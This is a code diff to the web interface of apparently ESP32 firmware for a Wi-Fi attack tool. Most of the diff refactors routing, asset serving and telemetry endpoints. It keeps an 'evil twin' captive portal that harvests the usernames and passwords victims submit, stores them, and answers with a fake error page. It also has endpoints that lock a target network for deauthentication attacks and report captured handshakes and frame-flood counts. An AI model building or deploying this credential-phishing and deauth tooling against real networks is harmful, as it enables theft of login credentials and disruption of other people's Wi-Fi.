@@ -8,6 +8,15 @@
 #include "web_interface.h"
 #include "attacks.h"
 #include "hardware.h"
+#include "survey.h"
+#include "benchmark.h"
+#include "rf_timeline.h"
+#include "mem_budget.h"
+#include "scan_cache.h"
+#include "event_store.h"
+#include "health.h"
+#include "alert_engine.h"
+#include "web_assets.h"
 
 static bool parseBSSID(const char* str, uint8_t* out) {
     if (!str || strlen(str) != 17) return false;
@@ -26,10 +35,25 @@ WebInterface& WebInterface::getInstance() {
     return instance;
 }
 
-WebInterface::WebInterface() : server(80), isEvilTwin(false) {}
+WebInterface::WebInterface() : server(80), isEvilTwin(false), running(false), routesRegistered(false) {}
+
+void WebInterface::handleCommand(const Command& cmd) {
+    switch (cmd.id) {
+        case CommandId::WEB_START:
+            if (running) stop();
+            start(cmd.arg != 0);
+            break;
+        case CommandId::WEB_STOP:
+            if (running) stop();
+            break;
+        default:
+            break;
+    }
+}
 
 void WebInterface::start(bool evilTwinMode) {
     isEvilTwin = evilTwinMode;
+    AttackEngine::getInstance().pinChannel(true);
     WiFi.mode(evilTwinMode ? WIFI_AP : WIFI_AP_STA);
     
     if(evilTwinMode) {
@@ -40,15 +64,11 @@ void WebInterface::start(bool evilTwinMode) {
         WiFi.softAP(WIFI_SSID_AP, WIFI_PASS_FALLBACK); 
     }
     
-    //  Route Handlers
-    server.on("/", [this](){ if(isEvilTwin) handleCaptivePortal(); else handleRoot(); });
-    server.on("/login", HTTP_POST, [this](){ handleCaptivePortal(); }); 
-    server.on("/api/scan", [this](){ handleScan(); });
-    server.on("/api/attack", [this](){ handleAttack(); });
-    server.on("/api/stop", [this](){ handleStop(); });
-    server.onNotFound([this](){ if(isEvilTwin) handleCaptivePortal(); else server.send(404, "text/plain", "Not Found"); });
-    
+    // Handlers live as long as the server; stop() only closes the socket
+    if (!routesRegistered) registerRoutes();
+
     server.begin();
+    running = true;
     
     if (ENABLE_SERIAL_LOG) {
         Serial.print("[WEB] Started. Mode: ");
@@ -56,16 +76,49 @@ void WebInterface::start(bool evilTwinMode) {
     }
 }
 
+// Once per boot: WebServer never frees handlers, so re-adding them on every
+// start (menu toggle, WEB_START restart) would leak a full set and grow the chain.
+// Each handler checks `isEvilTwin` at request time.
+void WebInterface::registerRoutes() {
+    // Dashboard: gzip assets embedded in flash (generated from web/)
+    for (size_t i = 0; i < WEB_ASSET_COUNT; i++) {
+        const WebAsset& asset = WEB_ASSETS[i];
+        server.on(asset.path, [this, &asset](){ if(isEvilTwin) handleCaptivePortal(); else serveAsset(asset); });
+    }
+    server.on("/login", HTTP_POST, [this](){ handleCaptivePortal(); }); 
+    server.on("/api/scan", [this](){ handleScan(); });
+    server.on("/api/attack", [this](){ handleAttack(); });
+    server.on("/api/stop", [this](){ handleStop(); });
+    server.on("/api/survey", [this](){ handleSurvey(); });
+    server.on("/api/status", [this](){ handleStatus(); });
+    server.on("/api/bus", [this](){ handleBus(); });
+    server.on("/api/bench", [this](){ handleBench(); });
+    server.on("/api/timeline", [this](){ handleTimeline(); });
+    server.on("/api/mem", [this](){ handleMem(); });
+    server.on("/api/events", [this](){ handleEvents(); });
+    server.on("/api/health", [this](){ handleHealth(); });
+    server.on("/api/alerts", [this](){ handleAlerts(); });
+    server.onNotFound([this](){ if(isEvilTwin) handleCaptivePortal(); else server.send(404, "text/plain", "Not Found"); });
+
+    // WebServer drops request headers it was not asked to keep (ETag revalidation)
+    static const char* headerKeys[] = { "If-None-Match" };
+    server.collectHeaders(headerKeys, 1);
+    routesRegistered = true;
+}
+
 void WebInterface::stop() {
     server.stop();
     dnsServer.stop();
     WiFi.softAPdisconnect(true);
+    running = false;
+    AttackEngine::getInstance().pinChannel(false);
     
     // Audit Log
     if (ENABLE_SERIAL_LOG) Serial.println("[WEB] Interface Halted.");
 }
 
 void WebInterface::update() {
+    if(!running) return;
     if(isEvilTwin) dnsServer.processNextRequest();
     server.handleClient();
 }
@@ -85,10 +138,11 @@ void WebInterface::handleCaptivePortal() {
                 return;
             }
 
-            char cred[MAX_CRED_LEN];
-            snprintf(cred, sizeof(cred), "%s:%s", u.c_str(), p.c_str());
-            
-            Hardware::getInstance().saveCred(cred);
+            // NVS write happens in the StorageCore task
+            Command save(CommandId::SAVE_CRED);
+            static_assert(sizeof(save.text) >= MAX_CRED_LEN, "Command text too small for creds");
+            snprintf(save.text, sizeof(save.text), "%s:%s", u.c_str(), p.c_str());
+            MessageBus::getInstance().post(Subsystem::STORAGE, save, pdMS_TO_TICKS(BUS_POST_WAIT_MS));
             
             // Deception Response
             server.send(200, "text/html", "<h1>Error 500: Service Unavailable</h1>");
@@ -100,24 +154,64 @@ void WebInterface::handleCaptivePortal() {
     }
 }
 
-void WebInterface::handleRoot() {
-    server.send(200, "text/html", "<h1>LEVIATHAN C2</h1><button onclick=\"fetch('/api/stop')\">STOP OPERATIONS</button>");
+void WebInterface::serveAsset(const WebAsset& asset) {
+    // ETag is the content hash: a match means the browser copy is current
+    server.sendHeader("ETag", asset.etag);
+    server.sendHeader("Cache-Control", asset.cacheControl);
+    if (server.hasHeader("If-None-Match") && server.header("If-None-Match") == asset.etag) {
+        server.send(304);
+        return;
+    }
+
+    server.sendHeader("Content-Encoding", "gzip");
+    server.setContentLength(asset.len);
+    server.send(200, asset.mime, "");
+
+    // Straight from flash in socket-sized slices: no RAM copy, no String
+    for (size_t off = 0; off < asset.len; off += WEB_CHUNK_SIZE) {
+        size_t n = (asset.len - off < WEB_CHUNK_SIZE) ? asset.len - off : WEB_CHUNK_SIZE;
+        server.sendContent((const char*)asset.data + off, n);
+    }
 }
 
 void WebInterface::handleScan() {
     const size_t WEB_SCAN_LIMIT = 10;
     APInfo localBuf[WEB_SCAN_LIMIT]; 
+    auto& cache = ScanCache::getInstance();
     
-    size_t count = AttackEngine::getInstance().scanNetworks(localBuf, WEB_SCAN_LIMIT);
+    // Fresh cache: a memcpy. Stale, empty or ?refresh=1: the sweep runs in
+    // AttackCore and only this (NetCore) task waits for it.
+    bool refresh = server.hasArg("refresh") && server.arg("refresh") == "1";
+    if (refresh || !cache.isFresh()) {
+        uint32_t before = cache.generation();
+        if (!MessageBus::getInstance().post(Subsystem::ENGINE, Command(CommandId::SCAN), pdMS_TO_TICKS(BUS_POST_WAIT_MS))) {
+            server.send(503, "text/plain", "ERR_BUSY");
+            return;
+        }
+        uint32_t start = millis();
+        while (cache.generation() == before && millis() - start < WEB_SCAN_TIMEOUT_MS) {
+            vTaskDelay(50 / portTICK_PERIOD_MS);
+        }
+    }
+    
+    uint32_t gen = 0;
+    size_t count = cache.read(localBuf, WEB_SCAN_LIMIT, &gen);
+    
+    char buf[96];
+    snprintf(buf, sizeof(buf), "%lu", (unsigned long)gen);
+    server.sendHeader("X-Scan-Generation", buf);
+    uint32_t age = cache.ageMs();
+    snprintf(buf, sizeof(buf), "%lu", (unsigned long)((age == UINT32_MAX) ? 0 : age));
+    server.sendHeader("X-Scan-Age", buf);
     
     // Stream JSON construction to avoid huge String allocation
     String json = "[";
+    char ssid[sizeof(localBuf[0].ssid)];
     for(size_t i=0; i<count; i++) {
-        if(i>0) json += ",";
-        json += "{\"s\":\"" + String(localBuf[i].ssid) + "\",";
-        json += "\"b\":\"" + localBuf[i].getBSSIDString() + "\",";
-        json += "\"r\":" + String(localBuf[i].rssi) + ",";
-        json += "\"c\":" + String(localBuf[i].ch) + "}";
+        jsonSafeCopy(ssid, localBuf[i].ssid, sizeof(ssid));
+        snprintf(buf, sizeof(buf), "%s{\"s\":\"%s\",\"b\":\"%s\",\"r\":%d,\"c\":%u}", (i > 0) ? "," : "",
+                 ssid, localBuf[i].getBSSIDString().c_str(), (int)localBuf[i].rssi, (unsigned)localBuf[i].ch);
+        json += buf;
     }
     json += "]";
     
@@ -151,8 +245,14 @@ void WebInterface::handleAttack() {
             return;
         }
 
-        // Apply Target Configuration
-        AttackEngine::getInstance().setTarget(bssid, channel);
+        // Apply Target Configuration (async, AttackCore task)
+        Command target(CommandId::SET_TARGET);
+        memcpy(target.bssid, bssid, 6);
+        target.channel = (int16_t)channel;
+        if (!MessageBus::getInstance().post(Subsystem::ENGINE, target, pdMS_TO_TICKS(BUS_POST_WAIT_MS))) {
+            server.send(503, "text/plain", "ERR_BUSY");
+            return;
+        }
         
         if (ENABLE_SERIAL_LOG) {
             Serial.printf("[WEB] Target Locked: %s Ch:%d\n", bStr.c_str(), channel);
@@ -165,12 +265,233 @@ void WebInterface::handleAttack() {
 }
 
 void WebInterface::handleStop() {
-    AttackEngine::getInstance().stopAttack();
-    server.send(200, "text/plain", "HALTED");
+    // Emergency halt: block (bounded) rather than drop
+    bool ok = MessageBus::getInstance().post(Subsystem::ENGINE, Command(CommandId::STOP_ATTACK), pdMS_TO_TICKS(500));
+    server.send(ok ? 200 : 503, "text/plain", ok ? "HALTED" : "ERR_BUSY");
+}
+
+void WebInterface::handleBus() {
+    auto& bus = MessageBus::getInstance();
+    uint32_t uptime = millis();
+
+    String json = "[";
+    for (size_t i = 0; i < (size_t)Subsystem::COUNT; i++) {
+        BusStats st = bus.getStats((Subsystem)i);
+        char buf[200];
+        snprintf(buf, sizeof(buf),
+            "%s{\"q\":\"%s\",\"posted\":%lu,\"handled\":%lu,\"dropped\":%lu,"
+            "\"avg_ms\":%lu,\"max_ms\":%lu,\"depth\":%u,\"peak\":%u,\"per_min\":%lu}",
+            (i > 0) ? "," : "", MessageBus::name((Subsystem)i),
+            (unsigned long)st.posted, (unsigned long)st.handled, (unsigned long)st.dropped,
+            (unsigned long)(st.handled ? st.totalLatencyMs / st.handled : 0), (unsigned long)st.maxLatencyMs,
+            (unsigned)st.depth, (unsigned)st.peakDepth,
+            (unsigned long)(uptime ? (uint64_t)st.handled * 60000ULL / uptime : 0));
+        json += buf;
+    }
+    json += "]";
+    server.send(200, "application/json", json);
+}
+
+void WebInterface::handleSurvey() {
+    auto& survey = SiteSurvey::getInstance();
+    uint32_t now = millis();
+
+    // Chunked stream: one record per chunk, no full-document String
+    server.setContentLength(CONTENT_LENGTH_UNKNOWN);
+    server.send(200, "application/json", "");
+
+    char buf[320];
+    snprintf(buf, sizeof(buf), "{\"now\":%lu,\"aps\":[", (unsigned long)now);
+    server.sendContent(buf, strlen(buf));
+
+    SurveyRecord r;
+    for (size_t i = 0; survey.getRecord(i, r); i++) {
+        size_t n = 0;
+        if (i > 0) buf[n++] = ',';
+        n += SiteSurvey::formatJson(r, now, buf + n, sizeof(buf) - n);
+        server.sendContent(buf, n);
+    }
+    server.sendContent("]}", 2);
+    server.sendContent("", 0);
+}
+
+void WebInterface::handleBench() {
+    // Last completed on-device run (started from TEST SUITE > BENCHMARK)
+    char json[512];
+    Benchmark::getInstance().formatJson(json, sizeof(json));
+    server.send(200, "application/json", json);
+}
+
+void WebInterface::handleTimeline() {
+    // ?since=<gen> returns only slots closed after that generation (incremental polling)
+    auto& timeline = RfTimeline::getInstance();
+    uint32_t since = server.hasArg("since") ? (uint32_t)strtoul(server.arg("since").c_str(), nullptr, 10) : 0;
+    uint32_t gen = timeline.generation();
+    uint32_t oldest = gen - (uint32_t)timeline.count() + 1;
+    if (since + 1 > oldest) oldest = since + 1;
+
+    server.setContentLength(CONTENT_LENGTH_UNKNOWN);
+    server.send(200, "application/json", "");
+
+    char buf[384];
+    snprintf(buf, sizeof(buf), "{\"gen\":%lu,\"slot_ms\":%u,\"now\":%lu,\"slots\":[",
+             (unsigned long)gen, (unsigned)RF_SLOT_MS, (unsigned long)RfTimeline::clockMs());
+    server.sendContent(buf, strlen(buf));
+
+    RfSlot s;
+    bool first = true;
+    for (uint32_t g = oldest; g <= gen && g != 0; g++) {
+        if (!timeline.getSlot(g, s)) continue;   // Overwritten while streaming
+        size_t n = 0;
+        if (!first) buf[n++] = ',';
+        n += RfTimeline::formatJson(s, buf + n, sizeof(buf) - n);
+        server.sendContent(buf, n);
+        first = false;
+    }
+    server.sendContent("]}", 2);
+    server.sendContent("", 0);
+}
+
+// Streams one event per chunk; records where to resume if the limit cuts the range
+struct EventStream {
+    WebServer* server;
+    uint64_t last;
+    bool first;
+    char buf[256];
+};
+
+static bool streamEvent(const EventRecord& rec, void* ctx) {
+    EventStream* s = (EventStream*)ctx;
+    size_t n = 0;
+    if (!s->first) s->buf[n++] = ',';
+    n += EventStore::formatJson(rec, s->buf + n, sizeof(s->buf) - n);
+    s->server->sendContent(s->buf, n);
+    s->first = false;
+    s->last = rec.time;
+    return true;
+}
+
+void WebInterface::handleEvents() {
+    // ?from=&to= in log-clock ms (see "now"); the time index skips segments outside the range
+    auto& store = EventStore::getInstance();
+    uint64_t now = store.now();
+    uint64_t from = server.hasArg("from") ? strtoull(server.arg("from").c_str(), nullptr, 10) : 0;
+    uint64_t to = server.hasArg("to") ? strtoull(server.arg("to").c_str(), nullptr, 10) : now;
+    size_t limit = server.hasArg("limit") ? (size_t)strtoul(server.arg("limit").c_str(), nullptr, 10) : EVT_QUERY_LIMIT;
+    if (limit == 0 || limit > EVT_QUERY_LIMIT) limit = EVT_QUERY_LIMIT;
+
+    EventStoreStats st = store.getStats();
+    server.setContentLength(CONTENT_LENGTH_UNKNOWN);
+    server.send(200, "application/json", "");
+
+    EventStream stream;
+    stream.server = &server;
+    stream.last = 0;
+    stream.first = true;
+    snprintf(stream.buf, sizeof(stream.buf),
+             "{\"now\":%llu,\"store\":{\"mounted\":%s,\"segments\":%u,\"sealed\":%u,\"records\":%lu,"
+             "\"bytes\":%lu,\"capacity\":%lu,\"erase_min\":%lu,\"erase_max\":%lu,\"corrupt\":%lu,"
+             "\"oldest\":%llu},\"events\":[",
+             (unsigned long long)now, st.mounted ? "true" : "false", (unsigned)st.segments, (unsigned)st.sealed,
+             (unsigned long)st.records, (unsigned long)st.bytesUsed, (unsigned long)st.capacity,
+             (unsigned long)st.eraseMin, (unsigned long)st.eraseMax, (unsigned long)st.corrupt,
+             (unsigned long long)st.oldest);
+    server.sendContent(stream.buf, strlen(stream.buf));
+
+    size_t n = store.query(from, to, limit, streamEvent, &stream);
+
+    // `next` resumes a range cut by the limit (records sharing its ms are sent again)
+    if (n >= limit) snprintf(stream.buf, sizeof(stream.buf), "],\"next\":%llu}", (unsigned long long)stream.last);
+    else snprintf(stream.buf, sizeof(stream.buf), "],\"next\":null}");
+    server.sendContent(stream.buf, strlen(stream.buf));
+    server.sendContent("", 0);
+}
+
+void WebInterface::handleMem() {
+    // Static breakdown is fixed at build time; heap figures are live
+    char json[640];
+    size_t n = MemBudget::formatJson(json, sizeof(json));
+    if (n > 0 && n < sizeof(json) - 64) {
+        snprintf(json + n - 1, sizeof(json) - n + 1, ",\"heap_free\":%lu,\"heap_min\":%lu}",
+                 (unsigned long)ESP.getFreeHeap(), (unsigned long)ESP.getMinFreeHeap());
+    }
+    server.send(200, "application/json", json);
+}
+
+void WebInterface::handleHealth() {
+    // Reset history, this/previous boot counters, coredump summary (RTC copy: live)
+    char json[640];
+    if (HealthMonitor::getInstance().formatJson(json, sizeof(json)) == 0) {
+        server.send(500, "text/plain", "ERR_OVERFLOW");
+        return;
+    }
+    server.send(200, "application/json", json);
+}
+
+void WebInterface::handleAlerts() {
+    // ?since=<id>: only transitions newer than the client's cursor (incremental polling)
+    uint32_t since = server.hasArg("since") ? strtoul(server.arg("since").c_str(), nullptr, 10) : 0;
+    AlertSnapshot snap;
+    if (!AlertEngine::getInstance().getSnapshot(snap)) {
+        server.send(503, "application/json", "{\"status\":\"BUSY\"}");
+        return;
+    }
+    uint32_t now = millis();
+
+    server.setContentLength(CONTENT_LENGTH_UNKNOWN);
+    server.send(200, "application/json", "");
+
+    char buf[192];
+    snprintf(buf, sizeof(buf), "{\"last\":%lu,\"suppressed\":%lu,\"rules\":[",
+             (unsigned long)snap.lastId, (unsigned long)snap.suppressed);
+    server.sendContent(buf, strlen(buf));
+    for (size_t i = 0; i < AlertEngine::ruleCount(); i++) {
+        const AlertRule& r = AlertEngine::rule(i);
+        snprintf(buf, sizeof(buf), "%s{\"rule\":\"%s\",\"open\":%s,\"value\":%u,\"raise\":%u,\"clear\":%u}",
+                 i ? "," : "", r.key, (snap.activeMask & (1u << i)) ? "true" : "false",
+                 (unsigned)snap.values[i], (unsigned)r.raise, (unsigned)r.clear);
+        server.sendContent(buf, strlen(buf));
+    }
+    server.sendContent("],\"history\":[");
+
+    // Oldest first; ids are consecutive, so a gap tells the client it missed some
+    bool first = true;
+    for (uint16_t k = 0; k < snap.count; k++) {
+        const AlertRecord& rec = snap.history[(snap.head + ALERT_HISTORY - snap.count + k) % ALERT_HISTORY];
+        if (rec.id <= since) continue;
+        size_t n = 0;
+        if (!first) buf[n++] = ',';
+        size_t m = AlertEngine::formatJson(rec, now, buf + n, sizeof(buf) - n);
+        if (m == 0) continue;
+        server.sendContent(buf, n + m);
+        first = false;
+    }
+    server.sendContent("]}");
+    server.sendContent("", 0);
 }
 
 void WebInterface::handleStatus() {
-    // [TODO] Return JSON with Deauth Count and System State
-    // Future expansion: serialize SystemState struct
-    server.send(200, "application/json", "{\"status\":\"OK\"}");
+    // Lock-free snapshot: never waits on the engine task
+    EngineStatus st;
+    if (!AttackEngine::getInstance().getStatus(st)) {
+        server.send(503, "application/json", "{\"status\":\"BUSY\"}");
+        return;
+    }
+
+    char json[448];
+    snprintf(json, sizeof(json),
+        "{\"status\":\"OK\",\"mode\":\"%s\",\"active\":%s,\"deauth\":%d,\"spoofed\":%lu,"
+        "\"sniffer\":%lu,\"handshakes\":%u,\"probes\":%u,\"alerts\":%u,"
+        "\"ble\":{\"adverts\":%lu,\"flooded\":%lu,\"dropped\":%lu,"
+        "\"top\":{\"vendor\":\"%s\",\"id\":%u,\"rate\":%u,\"addrs\":%u,\"churn\":%u,\"rssi\":%d}},"
+        "\"age\":%lu,\"heap\":%lu}",
+        attackTypeName(st.attack), st.active ? "true" : "false", st.deauthFrames,
+        (unsigned long)st.spoofedFrames, (unsigned long)st.snifferCalls,
+        (unsigned)st.handshakes, (unsigned)st.probes, (unsigned)st.alerts,
+        (unsigned long)st.bleAdverts, (unsigned long)st.bleFloods, (unsigned long)st.bleDropped,
+        st.bleTop.key ? BleFloodGuard::vendorName(st.bleTop.vendor, st.bleTop.flags) : "",
+        (unsigned)st.bleTop.vendor, (unsigned)st.bleTop.rate, (unsigned)st.bleTop.addresses(),
+        (unsigned)st.bleTop.churn(), (int)st.bleTop.rssi,
+        (unsigned long)(millis() - st.updatedAt), (unsigned long)ESP.getFreeHeap());
+    server.send(200, "application/json", json);
 }